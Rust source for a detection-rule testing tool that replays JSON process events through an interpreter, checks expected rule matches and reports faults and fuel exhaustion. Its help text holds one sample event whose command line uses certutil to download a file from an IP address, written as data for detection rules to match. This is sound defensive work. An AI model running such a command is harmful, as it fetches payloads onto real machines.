//! Running an events file (see [`crate::events`]) through the driver's
//! interpreter, checking expectations, and saying what happened: shared by
//! `changuard replay` and `changuard test`.
//!
//! The run fails (exit 1) when an expectation is not met, and when an
//! evaluation faults or runs out of fuel: the driver counts either as a fault
//! against the channel, and a channel on trial with a fault is not promoted.

use crate::events::{Cut, Diff, EventLine, check, match_text, parse_line};
use changuard_format::ValidChannel;
use changuard_format::build::MetadataSpec;
use changuard_interp::{Engine, EngineError, Event, Match, Verdict};
use serde_json::{Map, Value as Json, json};
use std::cell::OnceCell;
use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;

/// Exit code: every event ran and every expectation was met.
pub const EXIT_OK: i32 = 0;
/// Exit code: content rejected, an expectation not met, a fault or fuel exhausted.
pub const EXIT_FAIL: i32 = 1;
/// Exit code: usage or I/O error, or a malformed event line.
pub const EXIT_USAGE: i32 = 2;

/// The events file format and the exit codes, for `--help` (after_help).
pub const EVENTS_HELP: &str = "EVENTS FILES (one JSON object per line; blank lines are skipped):
  {\"label\": \"certutil-download\", \"template\": \"ProcessCreate\",
   \"fields\": {\"image_path\": \"C:\\\\Windows\\\\System32\\\\certutil.exe\",
              \"command_line\": \"certutil -urlcache -f http://203.0.113.7/p.bin\"},
   \"expect\": [\"300/1\"]}
  fields   any subset of the template's fields; a field left out is \"\" or 0 (what
           the driver sends for fields it does not collect) and is listed as absent.
           String fields are cut to the driver's cap for the field (UTF-8 bytes, at
           a character boundary) before evaluation, as the driver does, unless
           --no-truncate; the output names the fields that were cut.
  expect   the exact matches the event must produce, written as they are printed:
           \"CHANNEL/INSTANCE\", or \"CHANNEL/INSTANCE ACTION\" to check the action
           too (\"291/10 block-candidate\"), or {\"channel\": 291, \"instance\": 10};
           [] means no match. Every match counts, from every channel loaded.
           An event without \"expect\" is evaluated, not checked.

EXIT CODES:
  0  every event ran and every expectation was met
  1  content rejected, an expectation not met, or an evaluation that ran out of
     fuel or faulted (the driver counts both as a fault against the channel: a
     channel on trial with a fault is not promoted and ends up quarantined)
  2  usage or I/O error, a malformed event line, or (test) a spec that does not
     compile";

/// Evaluation settings.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Options {
    /// Cut strings to their field's cap, as the driver does.
    pub truncate: bool,
}

/// One evaluated event line.
#[derive(Debug)]
pub struct Outcome<'l> {
    /// 1-based line number.
    pub line: usize,
    /// The parsed line.
    pub event: &'l EventLine,
    /// The matches, sorted by channel, then instance.
    pub matches: Vec<Match>,
    /// Per match, the rule its instance came from (the file's METADATA).
    pub rules: Vec<MetadataSpec>,
    /// String fields truncation changed.
    pub cut: Vec<Cut>,
    /// More matches than a verdict holds: the smallest keys were kept.
    pub matches_truncated: bool,
    /// Evaluation faults.
    pub faults: u32,
    /// Fuel used.
    pub fuel_used: u64,
    /// The budget ran out before the evaluation finished.
    pub fuel_exhausted: bool,
    /// DFA scans run (a regex on its own or a regex group) and the bytes
    /// they read: where an event's regex time goes.
    pub dfa_scans: u32,
    /// Bytes read by those scans.
    pub scanned_bytes: u64,
    /// Channels that fault or run out of fuel on this event on their own (as
    /// the driver attributes faults).
    pub blamed: Vec<u32>,
    /// Expected vs got, when the line has `expect`.
    pub diff: Option<Diff>,
}

impl Outcome<'_> {
    /// A fault or exhausted fuel: the driver would withhold a promotion.
    pub fn unhealthy(&self) -> bool {
        self.faults > 0 || self.fuel_exhausted
    }

    /// The line has `expect` and it was not met.
    pub fn failed(&self) -> bool {
        self.diff.as_ref().is_some_and(|d| !d.is_met())
    }
}

/// What one line gave.
#[derive(Debug)]
pub enum LineResult<'l> {
    /// An evaluated event.
    Event(Outcome<'l>),
    /// A line that is not a valid event.
    Malformed {
        /// 1-based line number.
        line: usize,
        /// Why.
        message: String,
    },
}

/// Counts over one or more events files.
#[derive(Clone, Debug, Default)]
pub struct Tally {
    /// Events evaluated.
    pub events: u64,
    /// Malformed lines.
    pub malformed: u64,
    /// Faults, summed.
    pub faults: u64,
    /// Lines whose evaluation faulted.
    pub fault_lines: Vec<usize>,
    /// Lines whose evaluation ran out of fuel.
    pub exhausted_lines: Vec<usize>,
    /// Channels blamed for a fault or exhausted fuel.
    pub blamed: BTreeSet<u32>,
    /// Expectations met.
    pub met: u64,
    /// Expectations not met.
    pub failed: u64,
    /// Events without `expect`.
    pub unchecked: u64,
    /// Events with a field cut to its cap.
    pub truncated: u64,
    /// Matches per `(channel, instance)`, with the action.
    pub per_instance: BTreeMap<(u32, u32), (u64, &'static str)>,
}

impl Tally {
    fn add(&mut self, o: &Outcome<'_>) {
        self.events += 1;
        self.faults += u64::from(o.faults);
        if o.faults > 0 {
            self.fault_lines.push(o.line);
        }
        if o.fuel_exhausted {
            self.exhausted_lines.push(o.line);
        }
        self.blamed.extend(&o.blamed);
        match &o.diff {
            None => self.unchecked += 1,
            Some(d) if d.is_met() => self.met += 1,
            Some(_) => self.failed += 1,
        }
        if !o.cut.is_empty() {
            self.truncated += 1;
        }
        for m in &o.matches {
            self.per_instance
                .entry((m.channel, m.instance))
                .or_insert((0, m.action.name()))
                .0 += 1;
        }
    }

    /// Add the counts of another file (its line numbers are kept, without
    /// the file: use them for counts only).
    pub fn merge(&mut self, o: &Tally) {
        self.events += o.events;
        self.malformed += o.malformed;
        self.faults += o.faults;
        self.fault_lines.extend(&o.fault_lines);
        self.exhausted_lines.extend(&o.exhausted_lines);
        self.blamed.extend(&o.blamed);
        self.met += o.met;
        self.failed += o.failed;
        self.unchecked += o.unchecked;
        self.truncated += o.truncated;
        for (k, (n, a)) in &o.per_instance {
            self.per_instance.entry(*k).or_insert((0, a)).0 += n;
        }
    }

    /// Evaluations that faulted or ran out of fuel.
    pub fn unhealthy(&self) -> usize {
        let mut lines: BTreeSet<usize> = self.fault_lines.iter().copied().collect();
        lines.extend(&self.exhausted_lines);
        lines.len()
    }

    /// The exit code: 2 with a malformed line, 1 with a failed expectation, a
    /// fault or exhausted fuel, else 0.
    pub fn exit_code(&self) -> i32 {
        if self.malformed > 0 {
            EXIT_USAGE
        } else if self.failed > 0
            || !self.fault_lines.is_empty()
            || !self.exhausted_lines.is_empty()
        {
            EXIT_FAIL
        } else {
            EXIT_OK
        }
    }

    /// Why faults and exhausted fuel fail the run, with the lines and the
    /// channels; `None` when there were none.
    pub fn health_note(&self, opts: Options) -> Option<String> {
        if self.fault_lines.is_empty() && self.exhausted_lines.is_empty() {
            return None;
        }
        let list = |v: &[usize]| {
            v.iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join(", ")
        };
        let mut what = Vec::new();
        if !self.exhausted_lines.is_empty() {
            what.push(format!(
                "{} evaluation(s) ran out of fuel (line {})",
                self.exhausted_lines.len(),
                list(&self.exhausted_lines)
            ));
        }
        if !self.fault_lines.is_empty() {
            what.push(format!(
                "{} evaluation(s) faulted (line {})",
                self.fault_lines.len(),
                list(&self.fault_lines)
            ));
        }
        let channels = if self.blamed.is_empty() {
            String::new()
        } else {
            format!(
                " (channel {})",
                self.blamed
                    .iter()
                    .map(ToString::to_string)
                    .collect::<Vec<_>>()
                    .join(", ")
            )
        };
        let mut note = format!(
            "{}{channels}. The driver counts this as a fault against the channel: a channel \
             on trial with a fault is not promoted, its trial stays open and the version \
             ends up quarantined; such content must not ship.",
            what.join("; ")
        );
        if !opts.truncate {
            note.push_str(
                " (--no-truncate: the driver cuts every string to its field's cap first, \
                 so it never evaluates values this long.)",
            );
        }
        Some(note)
    }
}

/// Validated content ready to evaluate events.
pub struct Content<'a> {
    chans: &'a [ValidChannel<&'a [u8]>],
    engine: Engine<'a>,
    /// One engine per channel, built at the first fault (fault attribution).
    solo: OnceCell<Vec<(u32, Engine<'a>)>>,
}

impl std::fmt::Debug for Content<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Content")
            .field("channels", &self.chans.len())
            .finish_non_exhaustive()
    }
}

impl<'a> Content<'a> {
    /// Build the interpreter for `chans`, as the driver does.
    ///
    /// # Errors
    /// The engine's, as the driver would get it.
    pub fn new(chans: &'a [ValidChannel<&'a [u8]>]) -> Result<Content<'a>, EngineError> {
        Ok(Content {
            chans,
            engine: Engine::new(chans)?,
            solo: OnceCell::new(),
        })
    }

    /// The interpreter.
    pub fn engine(&self) -> &Engine<'a> {
        &self.engine
    }

    /// The channels that fault or run out of fuel on `event` on their own.
    fn blame(&self, event: &Event<'_>) -> Vec<u32> {
        if let [only] = self.chans {
            return vec![only.channel()];
        }
        let solo = self.solo.get_or_init(|| {
            self.chans
                .iter()
                .filter_map(|c| {
                    Engine::new(std::slice::from_ref(c))
                        .ok()
                        .map(|e| (c.channel(), e))
                })
                .collect()
        });
        let mut alone = Verdict::new();
        solo.iter()
            .filter(|(_, e)| {
                e.evaluate(event, &mut alone);
                alone.faults > 0 || alone.fuel_exhausted
            })
            .map(|(c, _)| *c)
            .collect()
    }

    /// The metadata of the instance a match names (empty if it has none).
    pub fn rule_of(&self, m: &Match) -> MetadataSpec {
        let Some(ch) = self.chans.iter().find(|c| c.channel() == m.channel) else {
            return MetadataSpec::default();
        };
        // Instance ids strictly increase through the table (validated).
        let n = ch.instance_count();
        let (mut lo, mut hi) = (0u32, n);
        while lo < hi {
            let mid = lo + (hi - lo) / 2;
            match ch.instance(mid).map(|i| i.id) {
                Some(id) if id < m.instance => lo = mid + 1,
                Some(_) => hi = mid,
                None => return MetadataSpec::default(),
            }
        }
        let Some(inst) = ch.instance(lo).filter(|i| i.id == m.instance) else {
            return MetadataSpec::default();
        };
        inst.metadata().into()
    }

    /// Evaluate every line of `text`, calling `each` with every result.
    pub fn run(&self, text: &str, opts: Options, each: &mut dyn FnMut(&LineResult<'_>)) -> Tally {
        let mut verdict = Verdict::new();
        let mut tally = Tally::default();
        for (k, line) in text.lines().enumerate() {
            let lineno = k + 1;
            if line.trim().is_empty() {
                continue;
            }
            let ev = match parse_line(line) {
                Ok(ev) => ev,
                Err(message) => {
                    tally.malformed += 1;
                    each(&LineResult::Malformed {
                        line: lineno,
                        message,
                    });
                    continue;
                }
            };
            let (values, cut) = ev.values(opts.truncate);
            let Some(event) = Event::from_values(ev.template.id, &values) else {
                tally.malformed += 1;
                each(&LineResult::Malformed {
                    line: lineno,
                    message: "internal: event shape".into(),
                });
                continue;
            };
            self.engine.evaluate(&event, &mut verdict);
            let blamed = if verdict.faults > 0 || verdict.fuel_exhausted {
                self.blame(&event)
            } else {
                Vec::new()
            };
            let outcome = Outcome {
                line: lineno,
                event: &ev,
                matches: verdict.matches().to_vec(),
                rules: verdict.matches().iter().map(|m| self.rule_of(m)).collect(),
                cut,
                matches_truncated: verdict.truncated,
                faults: verdict.faults,
                fuel_used: verdict.fuel_used,
                fuel_exhausted: verdict.fuel_exhausted,
                dfa_scans: verdict.dfa_scans,
                scanned_bytes: verdict.scanned_bytes,
                blamed,
                diff: ev.expect.as_ref().map(|e| check(e, verdict.matches())),
            };
            tally.add(&outcome);
            each(&LineResult::Event(outcome));
        }
        tally
    }
}

/// `all but a, b` or `a, b, c`: the absent fields, short.
fn absent_text(ev: &EventLine) -> String {
    let n = ev.template.input_count();
    if ev.absent.len() == n {
        return format!("all {n} fields");
    }
    if ev.absent.len() > n / 2 {
        let given: Vec<&str> = ev
            .template
            .fields
            .iter()
            .map(|f| f.name)
            .filter(|f| !ev.absent.contains(f))
            .collect();
        return format!("{} of {n}, all but {}", ev.absent.len(), given.join(", "));
    }
    ev.absent.join(", ")
}

/// An outcome as text: `line N: Template (label): matches [marks]`, then a
/// line each for absent fields, truncated fields and a failed expectation.
pub fn outcome_text(o: &Outcome<'_>) -> String {
    let label = o
        .event
        .label
        .as_deref()
        .map(|l| format!(" ({l})"))
        .unwrap_or_default();
    let found = if o.matches.is_empty() {
        "no match".to_string()
    } else {
        o.matches
            .iter()
            .map(match_text)
            .collect::<Vec<_>>()
            .join(", ")
    };
    let mut s = format!("line {}: {}{label}: {found}", o.line, o.event.template.name);
    if o.matches_truncated {
        s.push_str(" [more than 32 matches: the smallest kept]");
    }
    if o.faults > 0 {
        s.push_str(&format!(" [FAULTS {}]", o.faults));
    }
    if o.fuel_exhausted {
        s.push_str(" [FUEL EXHAUSTED]");
    }
    if !o.blamed.is_empty() {
        let c: Vec<String> = o.blamed.iter().map(ToString::to_string).collect();
        s.push_str(&format!(" [channel {}]", c.join(", ")));
    }
    match &o.diff {
        Some(d) if d.is_met() => s.push_str(" [as expected]"),
        Some(_) => s.push_str(" [EXPECTATION NOT MET]"),
        None => {}
    }
    for (m, rule) in o.matches.iter().zip(&o.rules) {
        if let Some(r) = rule_text(rule) {
            s.push_str(&format!("\n  {}: {r}", match_text(m)));
        }
    }
    if !o.event.absent.is_empty() {
        s.push_str(&format!("\n  absent (\"\" / 0): {}", absent_text(o.event)));
    }
    if !o.cut.is_empty() {
        let c: Vec<String> = o
            .cut
            .iter()
            .map(|c| format!("{} ({} -> {} bytes)", c.field, c.from, c.to))
            .collect();
        s.push_str(&format!(
            "\n  truncated to the driver's cap: {}",
            c.join(", ")
        ));
    }
    if let Some(d) = o.diff.as_ref().filter(|d| !d.is_met()) {
        s.push('\n');
        s.push_str(&diff_text(o, d));
    }
    s
}

/// `title (rule id) by author, reference`: what a match's METADATA says, or
/// `None` when it says nothing.
pub fn rule_text(r: &MetadataSpec) -> Option<String> {
    if r.is_empty() {
        return None;
    }
    let mut s = r.title.clone().unwrap_or_else(|| "untitled rule".into());
    if let Some(id) = &r.rule_id {
        s.push_str(&format!(" ({id})"));
    }
    if let Some(a) = &r.author {
        s.push_str(&format!(" by {a}"));
    }
    if let Some(link) = &r.reference {
        s.push_str(&format!(", {link}"));
    }
    Some(s)
}

/// A match's METADATA as JSON: only the fields it has.
pub fn rule_json(r: &MetadataSpec) -> Json {
    let mut o = Map::new();
    for (k, v) in r.named() {
        if let Some(v) = v {
            o.insert(k.into(), Json::String(v.to_string()));
        }
    }
    Json::Object(o)
}

/// Expected vs got, then `- missing` / `+ unexpected` lines.
fn diff_text(o: &Outcome<'_>, d: &Diff) -> String {
    let list = |v: Vec<String>| {
        if v.is_empty() {
            "no match".to_string()
        } else {
            v.join(", ")
        }
    };
    let expected = o
        .event
        .expect
        .as_deref()
        .unwrap_or(&[])
        .iter()
        .map(ToString::to_string)
        .collect();
    let got = o.matches.iter().map(match_text).collect();
    let mut s = format!("  expected: {}\n  got:      {}", list(expected), list(got));
    for m in &d.missing {
        s.push_str(&format!("\n  - {m:<28} expected, did not match"));
    }
    for m in &d.unexpected {
        s.push_str(&format!("\n  + {m:<28} matched, not expected"));
    }
    s
}

/// An outcome as one JSON object.
pub fn outcome_json(o: &Outcome<'_>) -> Json {
    let matches: Vec<Json> = o
        .matches
        .iter()
        .zip(&o.rules)
        .map(|(m, r)| {
            let mut j =
                json!({"channel": m.channel, "instance": m.instance, "action": m.action.name()});
            if let (false, Some(obj)) = (r.is_empty(), j.as_object_mut()) {
                obj.insert("rule".into(), rule_json(r));
            }
            j
        })
        .collect();
    let expect: Option<Vec<String>> = o
        .event
        .expect
        .as_ref()
        .map(|e| e.iter().map(ToString::to_string).collect());
    let mut obj = json!({
        "line": o.line,
        "template": o.event.template.name,
        "matches": matches,
        "absent": o.event.absent,
        "truncated": o.cut.iter().map(|c| c.field).collect::<Vec<_>>(),
        "matches_truncated": o.matches_truncated,
        "faults": o.faults,
        "fuel_used": o.fuel_used,
        "fuel_exhausted": o.fuel_exhausted,
        "dfa_scans": o.dfa_scans,
        "scanned_bytes": o.scanned_bytes,
        "blamed_channels": o.blamed,
        "expect": expect,
        "expect_met": o.diff.as_ref().map(Diff::is_met),
        "missing": o.diff.as_ref().map_or(&[][..], |d| &d.missing[..]),
        "unexpected": o.diff.as_ref().map_or(&[][..], |d| &d.unexpected[..]),
    });
    if let (Some(label), Some(m)) = (&o.event.label, obj.as_object_mut()) {
        m.insert("label".into(), Json::String(label.clone()));
    }
    obj
}

/// The counts of a tally as JSON (without per-instance matches).
pub fn tally_json(t: &Tally) -> Json {
    json!({
        "events": t.events,
        "malformed": t.malformed,
        "faults": t.faults,
        "fuel_exhausted": t.exhausted_lines.len(),
        "fault_lines": t.fault_lines,
        "fuel_exhausted_lines": t.exhausted_lines,
        "blamed_channels": t.blamed,
        "truncated_events": t.truncated,
        "expectations": {"met": t.met, "failed": t.failed, "unchecked": t.unchecked},
    })
}

/// The exit code of a `replay` or `test` run, printing its error if it had
/// one: under `--json` as the one JSON error object on `out`
/// (json_error.rs), else as `error: ...` on `err` (exit 2 either way).
pub fn exit_code(
    result: Result<i32, String>,
    json: bool,
    out: &mut dyn Write,
    err: &mut dyn Write,
) -> i32 {
    match result {
        Ok(code) => code,
        Err(msg) if json => {
            let e = crate::json_error::error_json(crate::json_error::ErrorKind::Usage, &msg, None);
            let _ = writeln!(out, "{e}");
            EXIT_USAGE
        }
        Err(msg) => {
            let _ = writeln!(err, "error: {msg}");
            EXIT_USAGE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn faults_fail_the_run_and_are_explained() {
        // The interpreter's own faults cannot be provoked from well-typed events
        // (the parser checks every type); what the run makes of one is this.
        let ev = parse_line(r#"{"template": "ProcessCreate", "expect": []}"#).unwrap();
        let o = Outcome {
            line: 4,
            event: &ev,
            matches: vec![],
            rules: vec![],
            cut: vec![],
            matches_truncated: false,
            faults: 2,
            fuel_used: 10,
            fuel_exhausted: false,
            dfa_scans: 0,
            scanned_bytes: 0,
            blamed: vec![300],
            diff: Some(Diff::default()),
        };
        assert!(o.unhealthy() && !o.failed());
        assert!(
            outcome_text(&o).starts_with(
                "line 4: ProcessCreate: no match [FAULTS 2] [channel 300] [as expected]"
            ),
            "{}",
            outcome_text(&o)
        );
        let mut t = Tally::default();
        assert_eq!(
            (t.exit_code(), t.health_note(Options { truncate: true })),
            (EXIT_OK, None)
        );
        t.add(&o);
        // The expectation was met, and still the run fails.
        assert_eq!((t.met, t.failed, t.faults), (1, 0, 2));
        assert_eq!(t.exit_code(), EXIT_FAIL);
        let note = t.health_note(Options { truncate: true }).unwrap();
        assert!(
            note.starts_with("1 evaluation(s) faulted (line 4) (channel 300). The driver counts"),
            "{note}"
        );
        assert!(note.contains("not promoted"), "{note}");
        assert!(!note.contains("--no-truncate"), "{note}");
        let j = outcome_json(&o);
        assert_eq!(j["faults"], 2);
        assert_eq!(j["blamed_channels"], json!([300]));
        // Merged into a total, the failure stays.
        let mut total = Tally::default();
        total.merge(&t);
        assert_eq!(total.exit_code(), EXIT_FAIL);
        assert_eq!(total.unhealthy(), 1);
        // A malformed line outranks it: the events file needs fixing first.
        total.malformed = 1;
        assert_eq!(total.exit_code(), EXIT_USAGE);
    }
}
